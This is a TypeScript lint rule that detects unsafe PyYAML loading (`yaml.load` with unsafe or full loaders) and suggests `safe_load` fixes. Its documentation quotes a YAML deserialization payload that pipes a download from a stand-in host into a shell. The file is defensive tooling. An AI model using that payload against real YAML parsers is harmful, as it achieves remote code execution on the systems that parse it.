import type { Node } from '../../engine/parser';
import { defineRule, fix, replace, type RuleContext } from '../../engine/rule';
import { callArgs, isNone, unparen } from '../../engine/syntax';
import type { Fix, OffsetEdit } from '../../engine/types';
import { removeArgument } from '../util/edits';

/** Loader classes that only build plain Python data (dicts, lists, strings, numbers...). */
const SAFE_LOADERS = new Set(['SafeLoader', 'CSafeLoader', 'BaseLoader', 'CBaseLoader']);
/** Loaders that construct arbitrary Python objects (`!!python/object/apply:os.system`). */
const UNSAFE_LOADERS = new Set(['Loader', 'UnsafeLoader', 'CLoader', 'CUnsafeLoader']);
/** Safer than UnsafeLoader since PyYAML 5.4, but documented as not for untrusted input. */
const FULL_LOADERS = new Set(['FullLoader', 'CFullLoader']);

type Verdict = 'safe' | 'unsafe' | 'full' | 'unknown';

/** `yaml.SafeLoader`, `yaml.loader.SafeLoader`, `yaml.cyaml.CSafeLoader` -> `SafeLoader`. */
function yamlClass(qualified: string | null): string | null {
  const m = qualified ? /^yaml(?:\.loader|\.cyaml)?\.(\w+)$/.exec(qualified) : null;
  return m ? m[1]! : null;
}

function classify(cls: string): Verdict {
  if (SAFE_LOADERS.has(cls)) return 'safe';
  if (UNSAFE_LOADERS.has(cls)) return 'unsafe';
  if (FULL_LOADERS.has(cls)) return 'full';
  return 'unknown';
}

/** Loader classes the file defines by subclassing a PyYAML loader: `class MyLoader(yaml.SafeLoader)`. */
function localLoaders(ctx: RuleContext): Map<string, Verdict> {
  return ctx.memo('yaml:local-loaders', () => {
    const out = new Map<string, Verdict>();
    for (const stmt of ctx.root.namedChildren) {
      const def = stmt?.type === 'decorated_definition' ? stmt.childForFieldName('definition') : stmt;
      if (def?.type !== 'class_definition') continue;
      const name = def.childForFieldName('name')?.text;
      const bases = def.childForFieldName('superclasses')?.namedChildren ?? [];
      for (const base of bases) {
        const cls = base && yamlClass(ctx.resolve(base));
        if (name && cls && classify(cls) !== 'unknown') out.set(name, classify(cls));
      }
    }
    return out;
  });
}

/** What a `Loader=` expression is, through aliases and local subclasses. */
function loaderVerdict(loader: Node, ctx: RuleContext): { verdict: Verdict; text: string } {
  const l = unparen(loader);
  const text = ctx.textOf(l);
  if (isNone(l)) return { verdict: 'unsafe', text };
  const cls = yamlClass(ctx.resolve(l));
  if (cls) return { verdict: classify(cls), text };
  if (l.type === 'identifier') return { verdict: localLoaders(ctx).get(l.text) ?? 'unknown', text };
  return { verdict: 'unknown', text };
}

/** Edits that make the callee call `safe_load`/`safe_load_all`, keeping the user's module alias. */
function renameCallee(call: Node, target: string, ctx: RuleContext): OffsetEdit[] | null {
  const fn = call.childForFieldName('function');
  if (!fn) return null;
  if (fn.type === 'attribute') {
    const attr = fn.childForFieldName('attribute');
    return attr ? [replace(attr, target)] : null;
  }
  // `from yaml import load`: import `safe_load` the same way (or use `yaml.safe_load` if the module is imported).
  const imp = ctx.requireImport('yaml', target);
  return [replace(fn, imp.ref), ...imp.edits];
}

export default defineRule({
  id: 'SEC506',
  name: 'yaml-unsafe-load',
  local: true,
  summary: 'PyYAML load with a loader that can construct arbitrary Python objects',
  owasp: { '2025': 'A08', '2021': 'A08' },
  cwe: [502, 20],
  severity: 'error',
  confidence: 'high',
  fix: 'sometimes',
  aliases: ['B506', 'S506'],
  tags: ['deserialization', 'yaml'],
  nodeTypes: ['call'],
  check(call, ctx) {
    const name = ctx.callName(call);
    const m = name ? /^yaml\.(load|load_all|unsafe_load|unsafe_load_all|full_load|full_load_all)$/.exec(name) : null;
    if (!m) return;
    const fn = m[1]!;
    const all = fn.endsWith('_all');
    const safeName = all ? 'safe_load_all' : 'safe_load';
    const args = callArgs(call);
    const at = call.childForFieldName('function') ?? call;
    const shown = `yaml.${fn}()`;
    let fixes: Fix[] = [];
    const rename = (): OffsetEdit[] | null => renameCallee(call, safeName, ctx);

    if (fn.startsWith('unsafe_') || fn.startsWith('full_')) {
      const edits = rename();
      if (edits && args.positional.length <= 1 && args.keywords.size === 0 && !args.hasStarArgs && !args.hasStarKwargs) {
        fixes = [fix(`Use \`${safeName}()\` (custom tags stop loading)`, 'unsafe', edits)];
      }
      const full = fn.startsWith('full_');
      ctx.report(at, {
        message: full ? `\`${shown}\` uses \`FullLoader\`, which is not meant for untrusted input` : `\`${shown}\` can construct arbitrary Python objects`,
        severity: full ? 'warning' : 'error',
        fixes,
      });
      return;
    }

    // yaml.load / yaml.load_all: it depends on the Loader.
    if (args.hasStarKwargs || args.hasStarArgs) return;
    const loaderArg = args.keywordNodes.get('Loader') ?? args.positional[1] ?? null;
    const loader = args.keywords.get('Loader') ?? args.positional[1] ?? null;
    if (!loader) {
      // PyYAML < 5.1 used the unsafe Loader here; 6.0 raises TypeError. safe_load is the documented replacement.
      const edits = rename();
      if (edits) fixes = [fix(`Use \`${safeName}()\``, 'safe', edits)];
      ctx.report(at, { message: `\`${shown}\` without a safe \`Loader\` can construct arbitrary Python objects`, fixes });
      return;
    }
    const { verdict, text } = loaderVerdict(loader, ctx);
    if (verdict === 'safe' || verdict === 'unknown') return;
    const edits = rename();
    if (edits && loaderArg && args.positional.length <= 2 && args.keywords.size <= 1) {
      fixes = [fix(`Use \`${safeName}()\` (custom tags stop loading)`, 'unsafe', edits, removeArgument(loaderArg))];
    }
    ctx.report(at, {
      message: verdict === 'full' ? `\`${shown}\` with \`Loader=${text}\` is not meant for untrusted input` : `\`${shown}\` with \`Loader=${text}\` can construct arbitrary Python objects`,
      severity: verdict === 'full' ? 'warning' : 'error',
      fixes,
    });
  },
  docs: {
    what: 'Finds PyYAML calls that can build arbitrary Python objects: `yaml.load()` / `yaml.load_all()` without a `Loader` or with `Loader=yaml.Loader`, `UnsafeLoader`, `CLoader` (or a local subclass of them), and `yaml.unsafe_load()`. `FullLoader` and `yaml.full_load()` are reported as warnings. `SafeLoader`, `CSafeLoader` and `BaseLoader` are fine under any alias (`from yaml import SafeLoader as SL`), and so are subclasses of them defined in the file. `ruamel.yaml` (`yaml = YAML(); yaml.load(f)`) is not PyYAML and is not reported. A `Loader` the rule cannot resolve (a variable, an imported custom class) is not reported.',
    why: 'The unsafe loaders turn YAML tags into Python calls: a document containing `!!python/object/apply:os.system ["curl evil.sh | sh"]` runs a shell command while it is being parsed. Any YAML that an attacker can influence (uploads, API bodies, config fetched over the network, files in a shared bucket) becomes remote code execution. `FullLoader` blocks the worst of this since PyYAML 5.4 (after CVE-2020-14343) but PyYAML itself says to use `safe_load` for untrusted input.',
    example: `import yaml

with open(path) as f:
    config = yaml.load(f, Loader=yaml.Loader)`,
    useInstead: `import yaml

with open(path) as f:
    config = yaml.safe_load(f)`,
    fixSafety: '`yaml.load(x)` without a `Loader` becomes `yaml.safe_load(x)`: on PyYAML 6 the original call raises `TypeError`, and on older versions plain YAML data loads the same, so the fix is safe. With an explicit unsafe or full `Loader`, or for `unsafe_load` / `full_load`, the fix removes the loader and calls `safe_load`, which is unsafe: documents that rely on Python-specific tags (`!!python/tuple`, `!!python/object`) or on custom constructors registered on that loader stop loading. The module alias you use is kept (`y.load` becomes `y.safe_load`); with `from yaml import load` the fix imports `safe_load` the same way.',
    references: [
      { title: 'PyYAML documentation', url: 'https://pyyaml.org/wiki/PyYAMLDocumentation' },
      { title: 'PyYAML: yaml.load(input) deprecation', url: 'https://github.com/yaml/pyyaml/wiki/PyYAML-yaml.load%28input%29-Deprecation' },
      { title: 'OWASP Deserialization Cheat Sheet', url: 'https://cheatsheetseries.owasp.org/cheatsheets/Deserialization_Cheat_Sheet.html' },
    ],
  },
});
